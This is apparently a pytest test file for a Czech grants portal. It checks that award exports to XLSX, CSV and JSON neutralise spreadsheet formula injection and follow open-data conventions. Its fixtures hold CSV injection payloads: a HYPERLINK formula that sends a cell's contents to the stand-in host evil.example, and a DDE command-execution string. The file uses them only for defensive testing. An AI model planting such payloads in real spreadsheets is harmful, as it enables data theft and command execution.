import csv
import io
import json
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import Workbook, load_workbook

from grants import services
from grants.views import award_records, awards_for
from portal.exports import spreadsheet_safe
from tests.factories import make_award, make_organisation, make_programme

RECIPIENT = '=HYPERLINK("https://evil.example/?d="&B2;"Spolek")'
PROJECT = "+cmd|' /C calc'!A0"
CONTRACT = "@SUM(1+1)"


def imported_awards(programme):
    """The three cells of the finding, through the import an editor uses."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow(["Příjemce", "IČO", "Název projektu", "Přiděleno", "Číslo smlouvy"])
    writer.writerow([RECIPIENT, "00064581", PROJECT, "15 000", CONTRACT])
    upload = SimpleUploadedFile("dotace.csv", buffer.getvalue().encode())
    return services.import_awards(programme=programme, rows=services.read_rows(upload))


def sheet_rows(client, url="/dotace/prijemci.xlsx"):
    """The workbook's rows as {title: cell value}, as a spreadsheet reads them."""
    sheet = load_workbook(io.BytesIO(client.get(url).content)).active
    titles, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(titles, row, strict=True)) for row in rows]


def test_formulas_imported_into_awards_reach_the_workbook_as_plain_text(client, db):
    """A spreadsheet opening prijemci.xlsx shows the text instead of running
    it."""
    imported_awards(make_programme())
    [row] = sheet_rows(client)
    assert row["Příjemce"] == "'" + RECIPIENT
    assert row["Název projektu"] == "'" + PROJECT
    assert row["Číslo smlouvy"] == "'" + CONTRACT
    assert row["Přiděleno (Kč)"] == 15000


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_in_a_programme_workbook(client, db, start):
    programme = make_programme()
    make_award(programme, project_title=f"{start}1+1")
    [row] = sheet_rows(client, f"{programme.get_absolute_url()}prijemci.xlsx")
    # (XML reads a carriage return back as a line feed.)
    assert row["Název projektu"] == f"'{start}1+1".replace("\r", "\n")


def test_amounts_are_numbers_and_ico_text_for_a_czech_spreadsheet(client, db):
    """The semicolon CSV "pro Excel" gave a Czech spreadsheet amounts with a
    decimal dot (read as text) and IČO without its leading zeros; its
    address now leads to the workbook, which types each cell."""
    programme = make_programme()
    # (awarded ≤ requested is a database constraint, negative or not)
    make_award(
        programme,
        organisation=make_organisation(ico="00200581"),
        requested=Decimal("-2500.50"),
        awarded=Decimal("-5000"),
    )
    old = client.get("/dotace/prijemci.csv")
    assert old.status_code == 301 and old["Location"] == "/dotace/prijemci.xlsx"
    [row] = sheet_rows(client, old["Location"])
    assert row["Požadováno (Kč)"] == -2500.5
    assert row["Přiděleno (Kč)"] == -5000
    assert row["IČO"] == "00200581"
    per_programme = client.get(f"{programme.get_absolute_url()}prijemci.csv")
    assert per_programme["Location"] == f"{programme.get_absolute_url()}prijemci.xlsx"
    assert client.get("/dotace/nic/prijemci.xlsx").status_code == 404


def test_the_json_keeps_the_names_as_they_are(client, db):
    """JSON is not opened in a spreadsheet: names stay unchanged there."""
    imported_awards(make_programme())
    [item] = json.loads(client.get("/dotace/prijemci.json").content)["dotace"]
    assert item["prijemce"] == RECIPIENT
    assert item["prideleno"] == "15000.00"


def test_award_cells_written_to_xlsx_are_text_not_formulas(db, tmp_path):
    """The same cells in a workbook written with openpyxl (as an XLSX export
    would) come back as strings; amounts as numbers."""
    imported_awards(make_programme())
    workbook = Workbook()
    for record in award_records(awards_for()):
        workbook.active.append([spreadsheet_safe(value) for value in record.values()])
    workbook.save(tmp_path / "prijemci.xlsx")

    cells = next(load_workbook(tmp_path / "prijemci.xlsx").active.iter_rows())
    by_value = {cell.value: cell.data_type for cell in cells}
    assert by_value["'" + RECIPIENT] == "s"
    assert by_value["'" + PROJECT] == "s"
    assert by_value["'" + CONTRACT] == "s"
    assert not any(data_type == "f" for data_type in by_value.values())
    assert by_value[15000] == "n"


# --- open data by the Czech conventions (grants/exports.py) -------------------


def open_csv(client, table):
    response = client.get(f"/dotace/data/{table}.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response["Access-Control-Allow-Origin"] == "*"
    raw = response.content.decode("utf-8")
    assert not raw.startswith("\ufeff")
    assert raw.endswith("\r\n") and "\n" not in raw.replace("\r\n", "")
    return list(csv.reader(io.StringIO(raw, newline="")))  # the default dialect


@pytest.fixture
def awards(db):
    programme = make_programme(
        code="5.1", title="Podpora menšin", year=2026, allocation=Decimal("500000")
    )
    make_award(
        programme,
        organisation=make_organisation(name="Spolek, z. s.", ico="00064581"),
        requested=Decimal("1234567.50"),
        awarded=Decimal("1000000"),
        project_title='Kurz "češtiny", pro dospělé',
    )
    make_award(programme, person_name="Jan Novák", person_municipality="Liberec")
    return programme


@pytest.mark.parametrize("table", ["prijemci", "programy"])
def test_open_csv_follows_rfc_4180_and_its_csvw_names_every_column(
    client, awards, table
):
    header, *rows = open_csv(client, table)
    metadata = client.get(f"/dotace/data/{table}.csv-metadata.json")
    assert metadata["Content-Type"].startswith("application/csvm+json")
    assert metadata["Access-Control-Allow-Origin"] == "*"
    described = metadata.json()
    assert described["url"] == f"http://testserver/dotace/data/{table}.csv"
    columns = described["tableSchema"]["columns"]
    assert [column["name"] for column in columns] == header
    assert all(column["titles"] and column["datatype"] for column in columns)
    assert rows and all(len(row) == len(header) for row in rows)


def test_open_awards_keep_ico_as_text_and_numbers_plain(client, awards):
    header, *rows = open_csv(client, "prijemci")
    first = dict(zip(header, rows[0], strict=True))
    assert first["ico"] == "00064581"
    assert first["pozadovano"] == "1234567.50"
    assert first["prideleno"] == "1000000.00"
    assert first["nazev_projektu"] == 'Kurz "češtiny", pro dospělé'
    assert dict(zip(header, rows[1], strict=True))["prijemce"] == "Jan Novák (Liberec)"
    [programme] = client.get("/dotace/data/programy.json").json()
    assert programme["alokace"] == 500000 and programme["rok"] == 2026
    items = client.get("/dotace/data/prijemci.json").json()
    assert items[0]["ico"] == "00064581" and items[0]["pozadovano"] == 1234567.5

    response = client.get("/dotace/data/prijemci.xlsx")
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    titles, first_row = [list(row) for row in sheet.iter_rows(max_row=2)]
    cells = {title.value: cell for title, cell in zip(titles, first_row, strict=True)}
    assert cells["IČO"].value == "00064581" and cells["IČO"].data_type == "s"
    assert cells["Přiděleno (Kč)"].value == 1000000
    assert cells["Přiděleno (Kč)"].data_type == "n"
    assert client.get("/dotace/data/nic.csv", follow=True).status_code == 404


@pytest.mark.usefixtures("no_page_cache")
def test_open_tables_cost_the_same_queries_however_many_rows(client, awards):
    def costs():
        counts = []
        for path in ("/dotace/data/prijemci.csv", "/dotace/data/programy.xlsx"):
            with CaptureQueriesContext(connection) as queries:
                assert client.get(path).status_code == 200
            counts.append(len(queries))
        return counts

    few = costs()
    for _ in range(5):
        make_award(make_programme(), organisation=make_organisation())
    assert costs() == few
